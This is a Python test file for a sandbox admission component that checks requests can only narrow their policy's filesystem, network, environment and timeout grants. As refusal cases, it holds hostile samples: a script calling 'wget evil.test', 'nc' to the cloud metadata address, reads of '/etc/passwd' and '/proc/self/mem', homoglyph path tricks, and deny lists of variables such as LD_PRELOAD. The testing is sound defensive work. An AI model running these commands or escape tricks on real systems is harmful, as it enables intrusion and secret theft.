"""magicrune.admission: a request narrows what its policy grants, and never widens it."""

from __future__ import annotations

import base64
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from magicrune.admission import Grant, admit
from magicrune.errors import MagicRuneError, PolicyViolation
from magicrune.netrule import NetRule
from magicrune.pathrule import is_within
from magicrune.policy import Policy, find_policy, load_policy, parse_policy
from magicrune.request import SpellRequest, parse_request
from magicrune.sensitive import SENSITIVE

WIDE = """\
version: 1
capabilities:
  fs: {allow: [/tmp/**, /workspace/**], readonly: [/data/**]}
  net: {allow: ["*.example.com:443", "10.0.0.0/8:8080-8090", "[2001:db8::/32]"]}
  env: {allow: ["*"], deny: ["*TOKEN*"]}
limits: {cpu_ms: 1000, memory_mb: 64, wall_sec: 5, pids: 10, output_bytes: 1000, tmp_mb: 1,
  files: 10}
runtime: {image: "base:1"}
sensitive: [/data/keys/**]
"""


def wide(text: str = WIDE) -> Policy:
    return parse_policy(text.encode(), policy_id="default", source="p.yml")


def request(**keys: object) -> SpellRequest:
    return parse_request(json.dumps({"cmd": "true", **keys}).encode())


def admitted(policy: Policy | None = None, **keys: object) -> Grant:
    return admit(request(**keys), policy or wide())


def refused(policy: Policy | None = None, **keys: object) -> PolicyViolation:
    with pytest.raises(PolicyViolation) as caught:
        admitted(policy, **keys)
    assert caught.value.exit_code == 3
    return caught.value


def files(*paths: str, content: bytes = b"") -> list[dict[str, str]]:
    text = base64.b64encode(content).decode()
    return [{"path": path, "content_b64": text} for path in paths]


def test_a_request_that_asks_for_nothing_gets_scratch_and_no_network():
    grant = admitted()
    assert (grant.writable, grant.readonly) == (("/tmp", "/workspace"), ("/data",))
    assert (grant.net, grant.env, grant.image) == ((), (), "base:1")
    assert grant.sensitive == (*SENSITIVE, "/data/keys/**")
    assert grant.limits.wall_ms == 5000
    assert (grant.limits.memory_bytes, grant.limits.tmp_bytes) == (64 << 20, 1 << 20)
    assert (grant.limits.cpu_ms, grant.limits.pids, grant.limits.files) == (1000, 10, 10)


def test_samples_of_the_default_policy():
    default = load_policy(find_policy())
    assert refused(default, cmd="curl https://example.com").where == "request.cmd:1"
    assert refused(default, files=files("/home/me/x")).where == "request.files[0].path"
    assert admitted(default, cmd="echo curl https://example.com").net == ()
    assert admitted(default, files=files("/tmp/x", "/workspace/a/b")).writable


def test_the_operator_chooses_the_policy():
    other = parse_policy(WIDE.encode(), policy_id="strict", source="p.yml")
    assert refused(other, policy_id="default").where == "request.policy_id"
    assert refused(other, policy_id="loose").where == "request.policy_id"
    assert admitted(other, policy_id="strict")
    assert admitted(other)  # left out, it claims nothing


@pytest.mark.parametrize(
    ("wanted", "writable", "readonly"),
    [
        (["/tmp/**"], ("/tmp",), ()),
        (["/tmp/a"], ("/tmp/a",), ()),
        (["/data/x/**", "/tmp"], ("/tmp",), ("/data/x",)),
        (["/tmp/a", "/tmp", "/tmp/a/b"], ("/tmp",), ()),
        (["/tmp/a", "/tmp/ab"], ("/tmp/a", "/tmp/ab"), ()),
    ],
)
def test_allow_fs_narrows(wanted, writable, readonly):
    grant = admitted(allow_fs=wanted)
    assert (grant.writable, grant.readonly) == (writable, readonly)


@pytest.mark.parametrize(
    "entry", ["/home", "/tmpx", "/etc/**", "/workspac", "/datax", "/Tmp", "/var/tmp"]
)
def test_allow_fs_never_widens(entry):
    error = refused(allow_fs=["/tmp", entry])
    assert error.where == "request.allow_fs[1]"
    assert entry in error.message


@pytest.mark.parametrize(
    "path",
    [
        *("/home/x", "/tmp", "/data", "/tmpx/a", "/etc/passwd", "/x", "/workspac", "/TMP/a"),
        *("/proc/self/mem", "/usr/bin/sh", "/t\u043cp/a", "/tmp\u2215a"),
    ],
)
def test_files_lie_below_a_granted_directory(path):
    error = refused(files=files("/workspace/fine/x", path))
    assert error.where == "request.files[1].path"


@pytest.mark.parametrize("path", ["/tmp/x", "/workspace/a/b/c", "/data/in.csv", "/tmp/tmp"])
def test_files_below_a_granted_directory_pass(path):
    assert admitted(files=files(path))


def test_files_follow_the_narrowed_grant():
    assert admitted(allow_fs=["/tmp/a"], files=files("/tmp/a/b"))
    assert refused(allow_fs=["/tmp/a"], files=files("/tmp/b")).where == "request.files[0].path"
    assert refused(allow_fs=["/tmp"], files=files("/data/b")).where == "request.files[0].path"


@given(st.text(alphabet="/.tmpx*\\~%\n\0e", max_size=14))
@settings(max_examples=500)
def test_no_spelling_of_a_path_gets_outside(text):
    try:
        asked = request(files=files(text))
        grant = admit(asked, wide())
    except MagicRuneError as error:
        if error.exit_code not in (1, 3):
            raise
        return
    path = asked.files[0].path
    assert any(is_within(path, tree) for tree in (*grant.writable, *grant.readonly))
    assert ".." not in path.split("/")


def test_the_size_of_files_has_the_ceiling_of_the_sandbox():
    half = b"x" * (512 << 10)
    assert admitted(files=files("/tmp/a", "/tmp/b", content=half))
    assert (
        refused(files=files("/tmp/a", "/tmp/b", "/tmp/c", content=half)).where == "request.files[2]"
    )


def test_files_and_their_directories_are_counted():
    assert admitted(files=files(*(f"/tmp/{n}" for n in range(10))))
    assert admitted(files=files("/tmp/a/b/c/d/e/f/g/h/i/j"))
    assert refused(files=files("/tmp/a/b/c/d/e/f/g/h/i/j/k")).where == "request.files"
    assert refused(files=files(*(f"/tmp/{n}" for n in range(11)))).where == "request.files"


@pytest.mark.parametrize(
    "entry",
    [
        *("a.example.com:443", "*.a.example.com:443", "10.1.2.3:8080", "10.9.0.0/16:8081-8082"),
        *("[::ffff:10.0.0.1]:8080", "[2001:db8::1]:22", "2001:db8:1::/48"),
    ],
)
def test_allow_net_that_the_policy_covers_is_granted(entry):
    assert admitted(allow_net=[entry]).net == (NetRule.parse(entry),)


@pytest.mark.parametrize(
    "entry",
    [
        *(
            "example.com:443",
            "a.example.com",
            "a.example.com:80",
            "xexample.com:443",
            "*.example.org",
        ),
        *("10.1.2.3", "10.1.2.3:8091", "10.0.0.0/7:8080", "11.0.0.1:8080", "2001:db9::1", "::/0"),
        *("a.example.com.evil.test:443", "0.0.0.0/0", "127.0.0.1", "169.254.169.254:80"),
    ],
)
def test_allow_net_never_widens(entry):
    error = refused(allow_net=["a.example.com:443", entry])
    assert error.where == "request.allow_net[1]"
    assert entry in error.message


@pytest.mark.parametrize("name", ["APP", "lower", "_X", "LOCAL"])
def test_variables_that_the_policy_allows_are_set(name):
    assert admitted(env={name: "v", "A": "w"}).env == tuple(sorted({name: "v", "A": "w"}.items()))


@pytest.mark.parametrize(
    "name",
    [
        *(
            "MY_TOKEN",
            "my_token",
            "Tokenizer",
            "LD_PRELOAD",
            "ld_preload",
            "LD_X",
            "MAGICRUNE_SEED",
        ),
        *("PYTHONHASHSEED", "SOURCE_DATE_EPOCH", "PATH", "HOME", "TZ", "LC_TIME", "LANG", "IFS"),
        *("BASH_ENV", "ENV", "TMPDIR", "GLIBC_TUNABLES"),
    ],
)
def test_variables_that_are_denied_or_reserved_are_refused(name):
    error = refused(env={"A": "", name: ""})
    assert error.where == f"request.env.{name}"


def test_variables_need_a_pattern():
    policy = wide(WIDE.replace('allow: ["*"]', 'allow: ["APP_*"]'))
    assert admitted(policy, env={"APP_X": "1"}).env == (("APP_X", "1"),)
    assert refused(policy, env={"XAPP_X": "1"}).where == "request.env.XAPP_X"
    assert refused(policy, env={"app_x": "1"}).where == "request.env.app_x"


@pytest.mark.parametrize(("asked", "milliseconds"), [(None, 5000), (0, 5000), (1, 1000), (5, 5000)])
def test_timeout(asked, milliseconds):
    assert admitted(timeout_sec=asked).limits.wall_ms == milliseconds
    assert admit(request(), wide(), timeout_sec=asked).limits.wall_ms == milliseconds


@pytest.mark.parametrize("asked", [6, 60])
def test_timeout_never_widens(asked):
    assert refused(timeout_sec=asked).where == "request.timeout_sec"
    with pytest.raises(PolicyViolation):
        admit(request(), wide(), timeout_sec=asked)


def test_a_given_timeout_replaces_that_of_the_request():
    assert admit(request(timeout_sec=4), wide(), timeout_sec=2).limits.wall_ms == 2000


@pytest.mark.parametrize(
    ("cmd", "allow_net", "ok"),
    [
        ("curl https://a.example.com/x", [], False),
        ("curl https://a.example.com/x", ["a.example.com:443"], True),
        ("curl http://a.example.com/x", ["a.example.com:443"], False),
        ("curl https://b.example.com/x", ["a.example.com:443"], False),
        ("telnet a.example.com", ["a.example.com:443"], True),
        ("telnet b.example.com", ["a.example.com:443"], False),
        ("curl http://127.0.0.1:8000/ http://localhost:1/", [], True),
        ("echo 'curl https://evil.test'", [], True),
        ("nc 169.254.169.254 80", [], False),
    ],
)
def test_a_literal_destination_must_be_granted(cmd, allow_net, ok):
    if ok:
        assert admitted(cmd=cmd, allow_net=allow_net)
    else:
        assert refused(cmd=cmd, allow_net=allow_net).where == "request.cmd:1"


def test_scripts_among_the_files_are_looked_at():
    script = files("/tmp/go.sh", content=b"#!/bin/sh\nwget evil.test\n")
    assert refused(files=script).where == "/tmp/go.sh:2"


NETWORK = """
version: 1
capabilities:
  net:
    allow: ["0.0.0.0/0", "192.168.0.0/16:80", "192.168.7.7", "a.example.com"]
    unsafe_host_loopback: ["127.0.0.1:8000-8010"]
    resolvers: ["9.9.9.9", "[2620:fe::fe]:5353"]
limits: {cpu_ms: 1, memory_mb: 1, wall_sec: 1, pids: 1, output_bytes: 1, tmp_mb: 1, net_names: 5}
"""


def networked(*entries):
    policy = parse_policy(NETWORK.encode(), policy_id="p", source="p.yml")
    request = parse_request(json.dumps({"cmd": "true", "allow_net": entries}).encode())
    return admit(request, policy)


def test_a_wide_entry_grants_no_special_range():
    assert networked("8.8.8.8").net == (NetRule.parse("8.8.8.8"),)
    assert networked("192.168.1.0/24:80").net == (NetRule.parse("192.168.1.0/24:80"),)
    for entry in ("10.0.0.0/8", "169.254.169.254:80", "192.168.1.1:81"):
        with pytest.raises(PolicyViolation) as caught:
            networked(entry)
        assert f'- "{entry}"' in caught.value.hint


def test_the_executors_loopback_is_granted_by_its_own_key_only():
    grant = networked("127.0.0.1:8001")
    assert (grant.net, grant.host_loopback) == ((), (NetRule.parse("127.0.0.1:8001"),))
    for entry in ("127.0.0.1:80", "127.0.0.2:8001", "[::1]:8001", "localhost:8001"):
        with pytest.raises(PolicyViolation, match="not granted") as caught:
            networked(entry)
        assert "unsafe_host_loopback" in caught.value.hint


def test_only_a_single_address_of_the_policy_is_exact():
    assert networked("192.168.7.7:80").net_exact == (NetRule.parse("192.168.7.7:80"),)
    assert networked("192.168.7.8:80").net_exact == ()
    assert networked("a.example.com").net_exact == ()


def test_limits_and_resolvers_are_the_policys():
    grant = networked("8.8.8.8")
    assert (grant.net_limits.names, grant.net_limits.open_connections) == (5, 256)
    assert grant.resolvers == ("9.9.9.9", "[2620:fe::fe]:5353")
